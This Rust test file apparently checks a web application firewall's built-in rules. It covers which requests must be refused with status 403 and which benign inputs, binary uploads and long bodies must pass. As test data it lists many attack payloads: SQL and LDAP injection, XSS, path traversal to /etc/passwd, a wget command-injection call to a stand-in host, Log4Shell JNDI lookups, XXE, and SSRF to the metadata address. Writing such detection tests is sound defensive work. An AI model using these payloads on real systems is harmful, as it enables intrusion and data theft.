//! What the built-in rules must catch, and what they must let pass. None of these values is from the data sets that their
//! figures are measured on.

use std::net::IpAddr;
use std::sync::{Arc, OnceLock};

use crate::builtin::{DECISION, FILES, IDS};
use crate::{Budget, Clock, Connection, NoFiles, RuleSet, Scratch, Source, Verdict};

struct Noon;

impl Clock for Noon {
    fn unix_micros(&self) -> u64 {
        1_800_000_000_000_000
    }
}

fn rules() -> &'static Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    RULES.get_or_init(|| {
        let on = Source { name: "on.conf".to_owned(), text: b"SecRuleEngine On\nSecRequestBodyAccess On\n".to_vec() };
        let own = FILES.iter().map(|(name, text)| Source { name: (*name).to_owned(), text: text.as_bytes().to_vec() });
        let sources: Vec<Source> = std::iter::once(on).chain(own).collect();
        Arc::new(RuleSet::load(&sources, &NoFiles).unwrap_or_else(|errors| panic!("{errors:?}")))
    })
}

/// The fields that a browser sends and that rules look at.
const BROWSER: [(&str, &str); 9] = [
    ("Host", "shop.example"),
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
    ),
    ("Accept", "text/html,application/xhtml+xml;q=0.9,image/avif,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
    ("Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Sec-CH-UA", "\"Chromium\";v=\"138\", \"Not/A)Brand\";v=\"8\", \"Google Chrome\";v=\"138\""),
    ("Sec-Fetch-Mode", "navigate"),
    ("Referer", "https://shop.example/search?q=men%27s+shoes+%26+boots&sort=price"),
    ("If-None-Match", "W/\"5e1f-64c8\""),
    (
        "Cookie",
        "_ga=GA1.1.1092435.1717171717; session=s%3Ak2Xq9.Zm9vYmFy%2Bw; \
         cart=%7B%22items%22%3A%5B%7B%22id%22%3A12%2C%22qty%22%3A2%7D%5D%7D; \
         consent=isGpcEnabled=0&datestamp=Tue+Jan+02+2024+11%3A11%3A12+GMT%2B0100+(Central+European+Standard+Time)",
    ),
];

struct Ask<'a> {
    method: &'a str,
    target: &'a str,
    headers: &'a [(&'a str, &'a str)],
    body: &'a [u8],
}

/// The ids that matched, and the status of a refusal.
fn run(ask: &Ask<'_>) -> (Vec<u64>, Option<u16>) {
    run_cut(ask, false)
}

/// Likewise; where it is `cut`, the body goes on behind what is fed.
fn run_cut(ask: &Ask<'_>, cut: bool) -> (Vec<u64>, Option<u16>) {
    let local = IpAddr::from([127, 0, 0, 1]);
    let mut transaction = rules().transaction(Scratch::default(), Arc::new(Noon), Budget::default());
    transaction.connection(&Connection { client: local, client_port: 1, server: local, server_port: 80 });
    transaction.request_line(ask.method.as_bytes(), ask.target.as_bytes(), b"HTTP/1.1");
    for (name, value) in BROWSER.iter().chain(ask.headers) {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    let _ = transaction.request_headers();
    let _ = transaction.request_body(ask.body);
    if cut {
        transaction.request_body_truncated();
    }
    let verdict = transaction.request_end();
    let matched = transaction.matches().map(|found| found.id()).collect();
    match verdict {
        Verdict::Continue => (matched, None),
        Verdict::Interrupt(stop) => (matched, Some(stop.status)),
    }
}

fn get(target: &str) -> (Vec<u64>, Option<u16>) {
    run(&Ask { method: "GET", target, headers: &[], body: b"" })
}

fn post(content_type: &str, body: &str) -> (Vec<u64>, Option<u16>) {
    run(&Ask { method: "POST", target: "/", headers: &[("Content-Type", content_type)], body: body.as_bytes() })
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// A value and the rule that must be among those that see it.
const ATTACKS: [(u64, &str); 44] = [
    (8_100_104, "x\r\nSet-Cookie: admin=1"),
    (8_100_105, "x\nBcc: victim@mail.example"),
    (8_100_200, "1' OR '7'='7"),
    (8_100_201, "9 union all select null,password"),
    (8_100_202, "1/*!50000union*/select"),
    (8_100_203, "1 and extractvalue(1,concat(0x5c,user()))"),
    (8_100_204, "x from information_schema.tables"),
    (8_100_205, "3 or 17=17"),
    (8_100_208, "1; waitfor delay '0:0:9'"),
    (8_100_209, "(select top 1 name from sysusers)"),
    (8_100_210, "1) order by 7--"),
    (8_100_221, "x', $where: 'sleep(9)'"),
    (8_100_230, "*)(|(uid=*))"),
    (8_100_231, "' or count(parent::*)=1"),
    (8_100_300, "<svg onload=x()>"),
    (8_100_301, "<iframe src=//h.example>"),
    (8_100_302, "\" autofocus onfocus=go() x=\""),
    (8_100_303, "jav\tascript:go()"),
    (8_100_304, "top['con'+'firm'](2);eval('x')"),
    (8_100_305, "new Image().src=document.cookie"),
    (8_100_306, "<p style=\"x:expression(go())\">"),
    (8_100_308, "<!--#include virtual=\"/x\"-->"),
    (8_100_309, "x\"><img src=x"),
    (8_100_310, "&#106;&#97;&#118;&#97;"),
    (8_100_311, "x=PHNjcmlwdD4="),
    (8_100_401, "/etc/passwd"),
    (8_100_402, "/e't'c/pa\\sswd"),
    (8_100_403, "php://filter/read=string.rot13/resource=index"),
    (8_100_404, "../../../srv/secret"),
    (8_100_500, "a.png; wget http://h.example/x"),
    (8_100_501, "x|id"),
    (8_100_502, "() { :;}; echo x"),
    (8_100_600, "<?php system('x'); ?>"),
    (8_100_600, "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
    (8_100_601, "T(java.lang.Runtime).getRuntime().exec('x')"),
    (8_100_601, "__import__('os').popen('x')"),
    (8_100_602, "{{17*3}}"),
    (8_100_602, "${{'a'.constructor.constructor('x')()}}"),
    (8_100_700, "${jndi:ldap://h.example/a}"),
    (8_100_700, "${${lower:j}ndi:dns://h.example}"),
    (8_100_701, "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>"),
    (8_100_702, "http://169.254.169.254/latest/meta-data/"),
    (8_100_703, "http://x1.oastify.com/"),
    (8_100_103, "%2525253cscript%2525253e"),
];

#[test]
fn attacks_are_refused_wherever_they_stand() {
    for (id, value) in ATTACKS {
        let query = get(&format!("/search?q={}", encoded(value)));
        assert!(query.0.contains(&id), "{id} does not see {value:?}: {query:?}");
        assert_eq!(query.1, Some(403), "{value:?}");
        let form = post("application/x-www-form-urlencoded", &format!("a=1&text={}", encoded(value)));
        assert_eq!(form.1, Some(403), "{value:?} in a form");
        let escaped: String = value.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
        let json = post("application/json", &format!("{{\"a\":{{\"b\":[\"{escaped}\"]}}}}"));
        assert_eq!(json.1, Some(403), "{value:?} in JSON");
        let twice = get(&format!("/search?q={}", encoded(&encoded(value))));
        assert_eq!(twice.1, Some(403), "{value:?}, encoded twice");
    }
}

#[test]
fn attacks_are_refused_in_fields_cookies_names_and_raw_bodies() {
    let log4j = "${jndi:ldap://h.example/a}";
    for name in ["X-Api-Version", "User-Agent", "Referer", "X-Forwarded-For"] {
        let seen = run(&Ask { method: "GET", target: "/", headers: &[(name, log4j)], body: b"" });
        assert_eq!(seen.1, Some(403), "{name}");
    }
    let cookie = [("Cookie", "id=1%27%20union%20select%20password%20from%20users--")];
    assert_eq!(run(&Ask { method: "GET", target: "/", headers: &cookie, body: b"" }).1, Some(403));
    assert_eq!(get("/?user[$ne]=x").1, Some(403));
    assert_eq!(get("/static/..%2f..%2fetc/passwd").1, Some(403));
    // No Content-Type, one that is no form, and text within XML.
    assert_eq!(run(&Ask { method: "POST", target: "/", headers: &[], body: b"<script>go()</script>" }).1, Some(403));
    assert_eq!(post("text/plain", "{\"a\":\"<script>go()</script>\"}").1, Some(403));
    assert_eq!(post("text/xml", "<a><b>&lt;script&gt;go()&lt;/script&gt;</b></a>").1, Some(403));
    assert_eq!(post("application/json", "{\"a\":").1, Some(403), "JSON that is none");
    assert_eq!(
        run(&Ask { method: "GET", target: "/", headers: &[("User-Agent", "sqlmap/1.8")], body: b"" }).1,
        Some(403)
    );
}

fn upload(content_type: Option<&str>, more: &[(&str, &str)], body: &[u8]) -> (Vec<u64>, Option<u16>) {
    let named: Vec<_> =
        content_type.map(|name| ("Content-Type", name)).into_iter().chain(more.iter().copied()).collect();
    run(&Ask { method: "POST", target: "/", headers: &named, body })
}

/// Types that name no parser.
const TYPES: [Option<&str>; 9] = [
    None,
    Some(""),
    Some("text/plain"),
    Some("text/json"),
    Some("application/x-unknown"),
    Some("application/graphql"),
    Some("application/pdfx"),
    Some("multipart/mixed; boundary=b"),
    Some("garbage"),
];

#[test]
fn bodies_of_any_type_are_looked_at() {
    let escaped: String = "<script>go()</script>".encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
    let bodies = [
        "<script>go()</script>".to_owned(),
        "a=1&q=%3Cscript%3Ego()%3C/script%3E".to_owned(),
        "id=1%27%20or%20%277%27=%277".to_owned(),
        "a&id=1%27%20or%20%277%27=%277".to_owned(),
        format!("{{\"a\":[\"{escaped}\"]}}"),
        format!("\u{feff} [\"{escaped}\"]"),
        "<a><b>1&#39; or &#39;7&#39;=&#39;7</b></a>".to_owned(),
        "\0\u{1}\0 binary, and <script>go()</script> within \0".to_owned(),
    ];
    for content_type in TYPES {
        for body in &bodies {
            let (matched, status) = upload(content_type, &[], body.as_bytes());
            assert_eq!(status, Some(403), "{content_type:?}: {body:?}: {matched:?}");
        }
    }
    // What calls itself a file is one, unless it reads as what applications read.
    for content_type in
        ["application/octet-stream", "binary/octet-stream", "image/png", "application/offset+octet-stream"]
    {
        for body in &bodies[1..7] {
            assert_eq!(upload(Some(content_type), &[], body.as_bytes()).1, Some(403), "{content_type}: {body:?}");
        }
        let text = "-- drop the table\nDROP TABLE users; SELECT * FROM users WHERE 1=1 or 2=2;\n";
        assert_eq!(upload(Some(content_type), &[], text.as_bytes()).1, None, "{content_type}: a file");
    }
}

#[test]
fn encodings_that_hide_are_refused() {
    const FORM: &str = "application/x-www-form-urlencoded";
    for content_type in [
        "application/x-www-form-urlencoded; charset=ibm037",
        "application/x-www-form-urlencoded;Charset = \"UTF-7\"",
        "application/x-www-form-urlencoded; charset=utf-8; charset=ibm500",
        "application/x-www-form-urlencoded; charset*=utf-16''x",
        "application/json; charset=utf-16le",
        "text/plain; charset=iso-2022-jp",
        "text/plain; charset=utf-8x",
        "multipart/form-data; boundary=b; charset=cp037",
    ] {
        assert_eq!(upload(Some(content_type), &[], b"").1, Some(403), "{content_type}");
    }
    for coding in ["gzip", "br", "deflate, gzip", "x-gzip", "identity, zstd", "unknown"] {
        for content_type in
            [None, Some(FORM), Some("application/json"), Some("text/plain"), Some("application/octet-stream")]
        {
            let seen = upload(content_type, &[("Content-Encoding", coding)], b"\x1f\x8b\x08");
            assert!(seen.0.contains(&8_100_107) && seen.1 == Some(403), "{content_type:?} in {coding}: {seen:?}");
        }
    }
    assert_eq!(upload(None, &[], b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0").1, Some(403), "UTF-16 by its mark");
    for headers in [
        "Content-Disposition: form-data; name=a\r\nContent-Transfer-Encoding: base64",
        "Content-Disposition: form-data; name=a\r\ncontent-transfer-encoding:quoted-printable",
        "Content-Disposition: form-data; name=a\r\nContent-Type: text/plain; charset=utf-7",
        "Content-Disposition: form-data; name=a\r\nContent-Type: text/plain; charset=utf-8; charset=utf-7",
        "Content-Disposition: form-data; name=_charset_",
    ] {
        let plain = part("name=b", "x").replace("\r\n\r\n", "\r\nContent-Transfer-Encoding: binary\r\n\r\n");
        let body = format!("--b\r\n{headers}\r\n\r\nutf-7\r\n{plain}--b--\r\n");
        assert_eq!(post(MULTIPART, &body).1, Some(403), "{headers}");
    }
    for (content_type, body) in [
        ("application/x-www-form-urlencoded; charset=UTF-8", "a=1"),
        ("application/json;charset=\"utf-8\"", "{}"),
        ("text/plain; charset=ISO-8859-1; format=flowed", "text"),
        ("text/csv; header=present; charset=windows-1252", "a,b"),
        ("application/x-www-form-urlencoded; charset=Shift_JIS", "_charset_=Shift_JIS"),
    ] {
        assert_eq!(post(content_type, body).1, None, "{content_type}");
    }
    let fields = "Content-Disposition: form-data; name=a\r\nContent-Type: text/plain; charset=UTF-8\r\n\
                  Content-Transfer-Encoding: 8bit\r\n\r\nx\r\n";
    let (matched, status) = post(MULTIPART, &format!("--b\r\n{fields}--b--\r\n"));
    assert_eq!(status, None, "{matched:?}");
    assert_eq!(upload(Some("application/x-git-receive-pack-request"), &[("Content-Encoding", "gzip")], b"x").1, None);
    assert_eq!(upload(Some("application/json"), &[("Content-Encoding", "identity")], b"{}").1, None);
}

#[test]
fn uploads_of_binary_formats_are_let_in() {
    let mut random = crate::random::Random::new(7);
    let noise: Vec<u8> = (0..READ).map(|_| random.below(256) as u8).collect();
    for begin in 0..4 {
        let noise = &noise[begin * 17..];
        for content_type in TYPES.iter().copied().chain([
            Some("image/png"),
            Some("application/octet-stream"),
            Some("application/zip"),
            Some("video/mp4"),
            Some("application/x-protobuf"),
        ]) {
            for head in [&b"\x89PNG\r\n\x1a\n"[..], b"PK\x03\x04", b"", b"\xff\xd8\xff\xe0\0\x10JFIF\0"] {
                let (matched, status) = upload(content_type, &[], &[head, noise].concat());
                assert_eq!(status, None, "{content_type:?}: {matched:?}");
            }
        }
    }
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0L1 1\"/></svg>";
    assert_eq!(upload(Some("image/svg+xml"), &[], svg).1, None);
}

#[test]
fn what_base64_hides_is_seen() {
    // <script>alert(document.domain)</script>, and 1' union select password from users--
    for value in
        ["PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ", "MScgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnMtLQ"]
    {
        assert_eq!(get(&format!("/?q={value}")).1, Some(403), "{value}");
        assert_eq!(get(&format!("/{value}")).1, Some(403), "/{value}");
        let field = [("X-State", value)];
        assert_eq!(run(&Ask { method: "GET", target: "/", headers: &field, body: b"" }).1, Some(403), "{value}");
    }
}

/// What is read of a body that is longer.
const READ: usize = 128 << 10;

const MULTIPART: &str = "multipart/form-data; boundary=b";

fn part(parameters: &str, content: &str) -> String {
    format!("--b\r\nContent-Disposition: form-data; {parameters}\r\n\r\n{content}\r\n")
}

#[test]
fn long_bodies_are_looked_at_as_far_as_they_are_read() {
    let long = "some text ".repeat(20_000);
    let bodies = |value: &str| {
        let escaped = value.replace('<', "&lt;");
        [
            ("application/x-www-form-urlencoded", format!("a={}&b={long}", encoded(value))),
            ("application/json", format!("{{\"a\":\"{value}\",\"b\":[\"{long}\",{{\"c\":\"{long}\"}}]}}")),
            ("text/xml", format!("<a><b>{escaped}</b><c d=\"{long}\">{long}</c></a>")),
            (MULTIPART, format!("{}{}--b--\r\n", part("name=a", value), part("name=f; filename=x.bin", &long))),
        ]
    };
    for (value, expected) in [("good", None), ("<script>go()</script>", Some(403))] {
        for (content_type, body) in bodies(value) {
            let headers = [("Content-Type", content_type)];
            // Wherever the cut falls: in a value, in an escape, in a boundary.
            for end in READ..READ + 16 {
                let ask = Ask { method: "POST", target: "/", headers: &headers, body: &body.as_bytes()[..end] };
                let (matched, status) = run_cut(&ask, true);
                assert_eq!(status, expected, "{content_type} with {value:?}, cut at {end}: {matched:?}");
            }
        }
    }
    let headers = [("Content-Type", "application/json")];
    let broken = Ask { method: "POST", target: "/", headers: &headers, body: b"{\"a\":1,}, \"b\":" };
    assert_eq!(run_cut(&broken, true).1, Some(403), "what is wrong before the cut is wrong");
}

#[test]
fn many_values_are_no_attack() {
    let form: String = (0..1_500).map(|n| format!("field{n}={n}&")).collect();
    let numbers: Vec<String> = (0..5_000).map(|n| n.to_string()).collect();
    let files: String = (0..150).map(|n| part(&format!("name=f; filename=\"{n}.png\""), "data")).collect();
    for (content_type, body) in [
        ("application/x-www-form-urlencoded", form),
        ("application/json", format!("{{\"a\":[{}]}}", numbers.join(","))),
        (MULTIPART, format!("{files}{}--b--\r\n", part("name=a", "text"))),
    ] {
        let (matched, status) = post(content_type, &body);
        assert_eq!(status, None, "{content_type}: {matched:?}");
    }
    let hidden = format!("{files}{}--b--\r\n", part("name=a", "<script>go()</script>"));
    assert_eq!(post(MULTIPART, &hidden).1, Some(403), "a field behind many files");
}

const BENIGN: [&str; 34] = [
    "men's shoes & boots",
    "Anna O'Neil-Brand",
    "rock 'n' roll or jazz",
    "the union of two; select one of them",
    "drop me a line, or call 555-0199",
    "order by phone; it's -- really -- easy",
    "5 > 4, 100 % sure",
    "a <3 for my wife's cat",
    "price < 100 or price > 50",
    "\"exact phrase\" and \"other words\"",
    "see https://a.example/x?y=1&z=2#top",
    "anna.winter+shop@mail.example",
    "C++ and C#; also F#",
    "AT&T; T-Mobile | Vodafone",
    "user; cat owner | dog lover",
    "cat food, ls 300, nc 500",
    "He said: \"javascript: the good parts\" is a book",
    "{{name}}, ${price} and %s",
    "=SUM(A1:B2)",
    "docs/../img/logo.png",
    "2024-01-01T00:00:00+01:00",
    "Tue, 02 Jan 2024 10:11:12 GMT",
    "/garden/chairs?page=2",
    "日本語 テスト ＜特価＞",
    "café de l'été, Übergröße, Łódź",
    "<p>Hello <b>world</b>, <a href=\"https://a.example/x?y=1\">link</a><br/><ul><li>one</li></ul></p>",
    "Best,\r\nFrom: Bob\r\nData: none",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
    "5f3a91c2d7e84b2fa6c0d4e19b8f2c73",
    "Zm9vYmFyYmF6cXV4Zm9v",
    "# Title\n\nUse `npm install` and **run** it:\n- a\n- b",
    "if we can, then we do; else we don't",
    "select your size from the list below",
    "1,2,3; 4/5 (six) [seven] {eight}",
];

#[test]
fn people_are_let_in() {
    for value in BENIGN {
        let escaped: String = value.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
        let seen = [
            get(&format!("/search?q={}&page=2", encoded(value))),
            post("application/x-www-form-urlencoded", &format!("a=1&text={}", encoded(value))),
            post("application/json", &format!("{{\"a\":{{\"b\":[\"{escaped}\",1,true,null]}}}}")),
        ];
        for (matched, status) in seen {
            assert_eq!(status, None, "{value:?}: {matched:?}");
        }
    }
    let passes = |(matched, status): (Vec<u64>, Option<u16>)| assert_eq!(status, None, "{matched:?}");
    passes(get("/"));
    passes(get("/wiki/C%2B%2B_(language);v=1/a%20b"));
    passes(get("/oauth/callback?code=4/0AX4XfWh&state=xyz%3D%3D&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb"));
    passes(get("/items?filter[price][gte]=10&fields=name,id&order=-created_at"));
    passes(post("application/x-www-form-urlencoded", "user=anna&password=p%40ss%3Bw0rd%27%231--x"));
    passes(post("application/json", "{\"query\":\"query { user(id: 1) { name orders(first: 10) { id } } }\"}"));
    passes(post("text/plain;charset=UTF-8", "{\"e\":\"click\",\"t\":\"a#b > c\"}"));
    passes(post(
        "text/xml",
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><a xmlns=\"urn:b\"><q>hello &amp; good</q></a>",
    ));
}

#[test]
fn ids_are_in_the_range_and_the_decision_names_itself() {
    let (matched, _) = get("/?q=%3Cscript%3E");
    assert!(matched.iter().all(|id| IDS.contains(&u32::try_from(*id).unwrap_or(0))), "{matched:?}");
    assert!(matched.contains(&u64::from(DECISION)), "{matched:?}");
}
